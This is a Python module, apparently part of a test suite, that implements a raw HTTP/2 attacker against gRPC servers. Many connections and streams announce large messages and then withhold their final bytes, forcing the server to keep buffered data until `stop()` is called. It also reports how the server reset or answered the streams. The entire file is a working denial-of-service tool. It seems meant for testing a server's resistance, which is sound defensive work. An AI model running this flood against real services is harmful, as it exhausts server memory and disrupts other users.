"""A raw HTTP/2 attacker for the gRPC port: streams that announce a large gRPC message and
withhold its last bytes, so the server holds what it buffered for as long as we like.

grpcio's own channels always finish a message, hence `h2` over a plain socket. The attack
runs in a thread (`Flood`), sending whatever the server's flow-control windows allow, until
`stop()`.
"""

from __future__ import annotations

import selectors
import socket
import struct
import threading
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions


@dataclass
class FloodReport:
    """What the attacker saw: bytes the server let in, and how its streams ended."""

    opened: int = 0
    not_opened: int = 0  # beyond the server's SETTINGS_MAX_CONCURRENT_STREAMS
    sent_bytes: int = 0
    reset: int = 0
    answered: dict[str, int] = field(default_factory=dict)  # grpc-status -> streams
    connections_refused: int = 0
    messages: set[str] = field(default_factory=set)


@dataclass
class _Stream:
    left: int  # body bytes still to send before the withheld tail
    prefixed: bool = False  # the 5-byte gRPC message prefix went out


class Flood:
    """`connections` x `streams` requests to `method` at `target` ("host:port"), each
    announcing `announced` bytes and sending all but the last `withheld`."""

    def __init__(
        self,
        target: str,
        method: str,
        *,
        connections: int = 2,
        streams: int = 50,
        announced: int = 4_000_000,
        withheld: int = 100,
        headers: list[tuple[str, str]] | None = None,
    ) -> None:
        host, port = target.rsplit(":", 1)
        self._address = (host, int(port))
        self._method = method
        self._connections = connections
        self._streams = streams
        self._announced = announced
        self._withheld = withheld
        self._headers = headers or []
        self.report = FloodReport()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Flood:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def stop(self) -> None:
        """Stop sending and close every connection (the server may then free what it held)."""
        self._stop.set()
        self._thread.join(timeout=10)

    def _request_headers(self) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self._method),
            (":authority", f"{self._address[0]}:{self._address[1]}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *self._headers,
        ]

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        peers: list[tuple[socket.socket, h2.connection.H2Connection, dict[int, _Stream]]] = []
        for _ in range(self._connections):
            try:
                sock = socket.create_connection(self._address, timeout=5)
            except OSError:
                self.report.connections_refused += 1
                continue
            conn = h2.connection.H2Connection(
                h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
            )
            conn.initiate_connection()
            conn.increment_flow_control_window(2**30)  # let the server's answers in
            streams: dict[int, _Stream] = {}
            for _ in range(self._streams):
                try:
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, self._request_headers())
                except h2.exceptions.TooManyStreamsError:
                    self.report.not_opened += 1
                    continue
                self.report.opened += 1
                streams[stream_id] = _Stream(self._announced - self._withheld)
                self._send(conn, stream_id, streams[stream_id])
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            selector.register(sock, selectors.EVENT_READ, len(peers))
            peers.append((sock, conn, streams))
        while not self._stop.is_set() and peers:
            for key, _ in selector.select(timeout=0.05):
                sock, conn, streams = peers[key.data]
                try:
                    data = sock.recv(1 << 20)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    selector.unregister(sock)
                    self.report.connections_refused += 0
                    continue
                try:
                    events = conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    selector.unregister(sock)
                    continue
                for event in events:
                    self._on_event(conn, streams, event)
                for stream_id, stream in list(streams.items()):
                    self._send(conn, stream_id, stream)
                self._flush(sock, conn)
        for sock, _, _ in peers:
            sock.close()
        selector.close()

    def _flush(self, sock: socket.socket, conn: h2.connection.H2Connection) -> None:
        out = conn.data_to_send()
        deadline = time.monotonic() + 5
        while out and time.monotonic() < deadline and not self._stop.is_set():
            try:
                sent = sock.send(out)
            except BlockingIOError:
                time.sleep(0.01)
                continue
            except OSError:
                return
            out = out[sent:]

    def _on_event(
        self, conn: h2.connection.H2Connection, streams: dict[int, _Stream], event: object
    ) -> None:
        if isinstance(event, h2.events.DataReceived):
            conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamReset):
            self.report.reset += 1
            streams.pop(event.stream_id, None)
        elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
            headers = {_text(k): _text(v) for k, v in event.headers or ()}
            status = headers.get("grpc-status")
            if status is not None:
                self.report.messages.add(headers.get("grpc-message", ""))
                self.report.answered[str(status)] = self.report.answered.get(str(status), 0) + 1
                streams.pop(event.stream_id, None)

    def _send(
        self,
        conn: h2.connection.H2Connection,
        stream_id: int,
        stream: _Stream,
    ) -> None:
        """Send what the windows allow of the stream's body (the 5-byte gRPC prefix first)."""
        try:
            window = conn.local_flow_control_window(stream_id)
            chunk = conn.max_outbound_frame_size
            if not stream.prefixed:
                if window < 5:
                    return
                conn.send_data(stream_id, struct.pack(">BI", 0, self._announced))
                stream.prefixed = True
                window -= 5
            window = min(window, stream.left)
            while window > 0:
                n = min(window, chunk)
                conn.send_data(stream_id, b"\0" * n)
                stream.left -= n
                window -= n
                self.report.sent_bytes += n
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
            return


def _text(value: str | bytes) -> str:
    return value.decode() if isinstance(value, bytes) else value
